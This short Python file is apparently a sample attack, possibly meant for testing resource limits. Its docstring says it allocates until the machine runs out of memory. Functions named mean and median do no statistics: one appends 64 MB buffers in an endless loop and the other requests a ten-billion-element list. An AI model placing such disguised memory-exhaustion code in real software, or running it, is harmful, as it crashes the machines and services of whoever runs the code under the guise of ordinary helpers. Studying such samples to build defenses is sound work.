"""Attack: allocate until the machine runs out of memory."""


def mean(values):
    hog = []
    while True:
        hog.append(bytearray(64 * 1024 * 1024))


def median(values):
    return [0] * (10**10)
